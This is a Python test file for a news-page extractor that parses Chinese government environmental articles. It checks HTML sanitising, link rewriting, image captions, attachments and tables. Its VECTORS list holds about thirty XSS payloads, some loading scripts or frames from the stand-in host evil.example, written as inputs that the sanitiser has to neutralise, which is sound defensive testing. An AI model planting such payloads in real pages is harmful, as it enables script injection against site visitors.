"""Text, safe HTML, pictures, tables and files of a body."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import etree, html

from envnews.extract import Page, Rules, extract
from envnews.extract.body.content import safe_html
from envnews.extract.furniture.annexes import ATTACHMENT_TYPES
from envnews.model import Attachment, Image

if TYPE_CHECKING:
    from collections.abc import Callable

    from envnews.model import Extraction

AT = "https://sthjt.example.gov.cn/xwzx/202207/"
RULES = Rules(headline=("h1",), body=("div.content",), meta_line=("div.info",))
TAGS = {
    "p", "br", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "table", "thead", "tbody", "tr", "th", "td", "caption", "blockquote",
    "strong", "em", "b", "i", "u", "sub", "sup", "a", "img", "figure", "figcaption", "div", "span", "section",
}  # fmt: skip
ATTRIBUTES = {"href", "src", "alt", "rel", "colspan", "rowspan"}

VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' ONERROR='alert(1)'/>",
    "<p onclick='alert(1)' onmouseover=alert(1)>点我</p>",
    "<a href='javascript:alert(1)'>链接</a>",
    "<a href='JaVaScRiPt:alert(1)'>链接</a>",
    "<a href=' java\nscript:alert(1)'>链接</a>",
    "<a href='&#106;avascript:alert(1)'>链接</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>链接</a>",
    "<a href='vbscript:msgbox(1)'>链接</a>",
    "<img src='javascript:alert(1)'>",
    "<svg/onload=alert(1)><svg><script>alert(1)</script></svg>",
    "<iframe src='https://evil.example/'></iframe>",
    "<object data='x.swf'></object><embed src='x.swf'>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<p style='background:url(javascript:alert(1))'>样式</p>",
    "<form action='//evil.example'><input name='p'><button formaction='javascript:alert(1)'>交</button></form>",
    "<math><mi xlink:href='javascript:alert(1)'>链接</mi></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<meta http-equiv='refresh' content='0;url=javascript:alert(1)'><base href='//evil.example/'>",
    "<!--><img src=x onerror=alert(1)>--><![CDATA[<script>alert(1)</script>]]>",
    "<table background='javascript:alert(1)'><tr><td background='javascript:alert(1)'>格</td><td>二</td></tr></table>",
    "<a href='https://ok.example/' target='_blank' onclick='x()' style='x' id='i' class='c' data-x='1'>链接</a>",
    "<template><script>alert(1)</script></template><textarea><script>alert(1)</script></textarea>",
    "<img src='x' srcset='javascript:alert(1)'><video src=x onerror=alert(1)></video>",
    "<a href=\"https://ok.example/?a=1&quot;onmouseover=alert(1)&quot;\">链接</a>",
    "<p title='&lt;script&gt;'>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
]  # fmt: skip


def assert_safe(fragment: str) -> None:
    if not fragment:
        return
    tree = html.fragment_fromstring(fragment, create_parent="main")
    for element in tree.iterdescendants():
        assert element.tag in TAGS
        assert set(element.attrib) <= ATTRIBUTES, etree.tostring(element)
        for name in ("href", "src"):
            assert re.match(r"https?://|$", element.get(name, "")), element.get(name)
    assert "alert(1)</script>" not in fragment.lower()


@pytest.mark.proves(
    "S9", "known vectors, with and without rules: no script, handler, style or frame survives"
)
@pytest.mark.parametrize("vector", VECTORS)
@pytest.mark.parametrize("rules", [None, RULES])
def test_nothing_that_runs_survives(
    vector: str,
    rules: Rules | None,
    article: Callable[..., str],
    read: Callable[..., Extraction],
    paragraphs: tuple[str, ...],
) -> None:
    text = f"<p>{paragraphs[0]}</p>{vector}<p>{paragraphs[1]}</p><p>{paragraphs[2]}{vector}</p>"
    found = read(article(text=text), rules)
    assert_safe(found.body_html)
    assert paragraphs[0] in found.body_html
    assert paragraphs[0] in found.body


@pytest.mark.proves("S9", "any mixture of them; sanitising is idempotent")
@given(st.lists(st.sampled_from(VECTORS) | st.text("<>/=\"' &;ap水", max_size=12), max_size=6).map("".join))
def test_sanitising_is_safe_and_changes_nothing_the_second_time(markup: str) -> None:
    page = f"<h1>水环境会议</h1><div class='info'>2022-07-22</div><div class='content'><p>会议召开，部署工作任务。</p>{markup}</div>"
    found = extract(Page(AT, page.encode()), RULES)
    assert_safe(found.body_html)
    again = html.fragment_fromstring(found.body_html, create_parent="div")
    inner = safe_html(again, (), (), AT).removeprefix("<div>").removesuffix("</div>")
    assert inner == found.body_html


@pytest.mark.proves("S10", "links are absolute and marked noopener noreferrer nofollow")
def test_links_are_absolute_and_marked(article: Callable[..., str], read: Callable[..., Extraction]) -> None:
    text = "<p>会议召开，详见<a href='../a.html#top'>全文</a>、<a href='//b.example/c'>专栏</a>、<a href='#'>顶部</a>和<a name='x'>锚</a>，特此通知。</p>"
    found = read(article(text=text), RULES)
    links = re.findall(r"<a([^>]*)>([^<]+)</a>", found.body_html)
    assert [name for _, name in links] == ["全文", "专栏", "顶部", "锚"]
    assert 'href="https://sthjt.example.gov.cn/xwzx/a.html"' in links[0][0]
    assert 'href="https://b.example/c"' in links[1][0]
    assert "href" not in links[2][0] + links[3][0]
    assert all("noopener" in attributes for attributes, _ in links)


def test_a_lines_furniture_is_in_neither_text_nor_html(
    article: Callable[..., str], read: Callable[..., Extraction], paragraphs: tuple[str, ...]
) -> None:
    """Old editors end lines with <br>: the line to cut shares its element with those that stay."""
    text = f"　　{paragraphs[0]}<br>　　{paragraphs[1]}<br>　　{paragraphs[2]}<br>（责任编辑：周小禾）"
    found = read(article(text=text), RULES)
    assert found.body.splitlines() == list(paragraphs)
    assert found.editor == "周小禾"
    assert "责任编辑" not in found.body_html
    assert all(paragraph in found.body_html for paragraph in paragraphs)


@pytest.mark.proves("S10", "pictures have absolute addresses over http and https")
@pytest.mark.parametrize(
    ("markup", "image"),
    [
        ("<p><img src='./W020220722.jpg'></p>", Image(AT + "W020220722.jpg")),
        ("<p><img src='/images/loading.gif' data-src='./a.jpg'></p>", Image(AT + "a.jpg")),
        ("<p><img src='data:image/gif;base64,R0lGOD' data-original='./a.jpg'></p>", Image(AT + "a.jpg")),
        ("<p><img data-lazy-src='./a.jpg'></p>", Image(AT + "a.jpg")),
        ("<div class='pic'><img src='./a.jpg'><span class='pic-txt'>整治现场</span></div>", Image(AT + "a.jpg", "整治现场")),
        ("<table><tr><td><img src='./a.jpg'></td></tr><tr><td>整治现场 江帆 摄</td></tr></table>", Image(AT + "a.jpg", "整治现场 江帆 摄")),
        ("<p><img src='./a.jpg'></p><p>资料图：入海排污口。新华社发</p>", Image(AT + "a.jpg", "资料图：入海排污口。新华社发")),
        ("<p><img src='static/image/common/none.gif' zoomfile='./a.jpg' file='./a.jpg'></p>", Image(AT + "a.jpg")),
        ("<p><img data-lazy='true' data-lazyload='./a.jpg'></p>", Image(AT + "a.jpg")),
        ("<p><img src='./loading.gif' data-lazy-of-template='./a.jpg?w=600'></p>", Image(AT + "a.jpg?w=600")),
        ("<p><img srcset='./a.jpg 1x, ./b.jpg 2x'></p>", Image(AT + "a.jpg")),
        ("<p><img src='./a.jpg' data-big='./b.jpg' alt='c.jpg'></p>", Image(AT + "a.jpg")),
        ("<p><img data-echo='./a.jpg' src='/blank.png'></p>", Image(AT + "a.jpg")),
        ("<figure><img src='a.jpg'><figcaption>图为现场会。</figcaption></figure>", Image(AT + "a.jpg", "图为现场会。")),
        ("<p align='center'><img src='a.jpg'></p><p>图为现场会参会人员在北湾查看排污口。周小禾 摄</p>", Image(AT + "a.jpg", "图为现场会参会人员在北湾查看排污口。周小禾 摄")),
        ("<p><img src='a.jpg'></p><p style='text-align:center'>参会人员查看排污口</p>", Image(AT + "a.jpg", "参会人员查看排污口")),
        ("<p><img src='a.jpg'><br>▲现场会（周小禾/摄）</p>", Image(AT + "a.jpg", "▲现场会（周小禾/摄）")),
        ("<p><img src='a.jpg'></p>", Image(AT + "a.jpg")),
        ("<p><img src='图 一.jpg'></p>", Image(AT + "%E5%9B%BE%20%E4%B8%80.jpg")),
        ("<p><img src='a.jpg'><img src='a.jpg'></p>", Image(AT + "a.jpg")),
    ],
)  # fmt: skip
def test_pictures_have_their_real_address_and_their_caption(
    markup: str,
    image: Image,
    article: Callable[..., str],
    read: Callable[..., Extraction],
    paragraphs: tuple[str, ...],
) -> None:
    text = f"<p>{paragraphs[0]}</p>{markup}<p>{paragraphs[1]}</p><p>{paragraphs[2]}</p>"
    found = read(article(text=text), RULES)
    assert found.images == (image,)
    assert f'src="{image.url}"' in found.body_html


@pytest.mark.parametrize(
    "markup",
    [
        "<img src='data:image/png;base64,AAAA'>",
        "<img src='/images/icon_doc.gif'>",
        "<img>",
        "<img src=''>",
        "<img src='/images/ewm.png'>",
        "<img src='javascript:x'>",
    ],
)
def test_icons_and_inline_data_are_no_pictures(
    markup: str, article: Callable[..., str], read: Callable[..., Extraction]
) -> None:
    found = read(article(text=f"<p>会议召开，部署下一阶段任务。</p><p>{markup}</p>"), RULES)
    assert found.images == ()


def test_pictures_outside_the_body_are_none_of_the_articles(
    article: Callable[..., str], read: Callable[..., Extraction]
) -> None:
    assert read(article(above="<img src='/logo.png'>", below="<img src='/ad.jpg'>")).images == ()


@pytest.mark.parametrize("kind", sorted(ATTACHMENT_TYPES))
def test_files_have_address_name_and_type(
    kind: str, article: Callable[..., str], read: Callable[..., Extraction], paragraphs: tuple[str, ...]
) -> None:
    text = f"<p>{paragraphs[0]}</p><p>附件：<a href='./P020220722.{kind.upper()}'> 1.整治清单.{kind} </a></p>"
    expected = (Attachment(f"{AT}P020220722.{kind.upper()}", f"1.整治清单.{kind}", kind),)
    assert read(article(text=text), RULES).attachments == expected


@pytest.mark.parametrize(
    ("markup", "name", "kind"),
    [
        ("<a href='/module/download/downfile.jsp?classid=0&filename=2207221.pdf'>方案</a>", "方案", "pdf"),
        ("<a href='a.docx' title='整治方案.docx'><img src='/icon_doc.gif'></a>", "整治方案.docx", "docx"),
        ("<a href='a.xls?v=2'>清单</a>", "清单", "xls"),
        ("<a href='dir/方案.pdf'></a>", "%E6%96%B9%E6%A1%88.pdf", "pdf"),
        (
            "附件【<a href='/system/_content/download.jsp?urltype=news.DownloadAttachUrl&wbfileid=2'>清单.doc</a>】已下载12次",
            "清单.doc",
            "doc",
        ),
        ("<a href='/attach/download?id=12'>附件.PDF（1.2 MB）</a>", "附件.PDF（1.2 MB）", "pdf"),
        ("<a href='javascript:void(0)' onclick=\"window.open('/f/x.ofd')\">公告</a>", "公告", "ofd"),
        ("<a href='/f/x.doc' title='整治公告.doc'>点击下载</a>", "整治公告.doc", "doc"),
    ],
)
def test_files_behind_scripts_and_pictures(
    markup: str, name: str, kind: str, article: Callable[..., str], read: Callable[..., Extraction]
) -> None:
    [found] = read(article(text=f"<p>现将方案印发给你们，请认真执行。</p><p>{markup}</p>"), RULES).attachments
    assert (found.name, found.type) == (name, kind)


@pytest.mark.parametrize("rules", [None, RULES])
def test_files_below_the_text_count_and_other_links_do_not(
    rules: Rules | None, article: Callable[..., str], read: Callable[..., Extraction]
) -> None:
    below = "<div class='fj'>附件：<a href='./a.pdf'>整治清单.pdf</a></div><div><a href='/x.html'>相关</a><a href='/y.shtml'>网页</a></div>"
    found = read(article(below=below), rules)
    assert [attachment.url for attachment in found.attachments] == [AT + "a.pdf"]


@pytest.mark.parametrize("line", ["<a href='a.zip'>资料包</a>", "2.<a href='./a.wps'>汇总表</a>"])
def test_files_right_below_the_text_need_no_label(
    line: str, article: Callable[..., str], read: Callable[..., Extraction]
) -> None:
    others = "<div>相关阅读</div><p><a href='/b.pdf'>另一份报告</a></p>"
    found = read(article(below=f"<div class='fj'>{line}</div>{others}"), RULES)
    assert [attachment.url[-5:] for attachment in found.attachments] in (["a.zip"], ["a.wps"])


def test_a_program_that_hands_out_pages_is_no_file(
    article: Callable[..., str], read: Callable[..., Extraction]
) -> None:
    below = "<p><a href='/download/list.jsp?id=2'>下载中心</a> <a href='/app/download'>下载客户端</a></p>"
    assert read(article(below=below), RULES).attachments == ()


ROWS = "<tr><th>城市</th><th>优良天数</th></tr><tr><td>临江市</td><td>28</td></tr><tr><td>北湾市</td><td>30</td></tr>"


@pytest.mark.parametrize("rules", [None, RULES])
def test_a_table_of_data_is_rows_and_lines_of_the_text(
    rules: Rules | None,
    article: Callable[..., str],
    read: Callable[..., Extraction],
    paragraphs: tuple[str, ...],
) -> None:
    text = f"<p>{paragraphs[0]}</p><table>{ROWS}<tr><td></td><td> </td></tr></table><p>{paragraphs[1]}</p><p>{paragraphs[2]}</p>"
    found = read(article(text=text), rules)
    assert found.tables == ((("城市", "优良天数"), ("临江市", "28"), ("北湾市", "30")),)
    lines = found.body.splitlines()
    assert lines[1:4] == ["城市\t优良天数", "临江市\t28", "北湾市\t30"]
    assert "<td>28</td>" in found.body_html


def test_a_table_around_the_text_is_layout(
    article: Callable[..., str], read: Callable[..., Extraction], paragraphs: tuple[str, ...]
) -> None:
    inner = "".join(f"<p>{p}</p>" for p in paragraphs)
    layout = f"<table width='960'><tr><td width='20'>&nbsp;</td><td>{inner * 2}<table>{ROWS}</table></td></tr><tr><td></td><td>尾</td></tr></table>"
    found = read(article(text=layout), RULES)
    assert [len(table) for table in found.tables] == [3]
    assert found.body.splitlines()[0] == paragraphs[0]
    one_row = "<p>会议召开，部署任务。</p><table><tr><td>左</td><td>右</td></tr></table>"
    assert read(article(text=one_row), RULES).tables == ()


@given(st.text(max_size=60), st.text(max_size=30))
def test_the_text_has_no_control_characters(text: str, other: str) -> None:
    page = f"<h1>水环境会议</h1><div class='info'>2022-07-22</div><div class='content'><p>会议召开，部署工作任务。{text}</p><p>{other}</p></div>"
    found = extract(Page(AT, page.encode("utf-8", "replace")), RULES)
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\ufeff\ud800-\udfff]", found.body)
    assert all(line and line == line.strip() for line in found.body.splitlines())
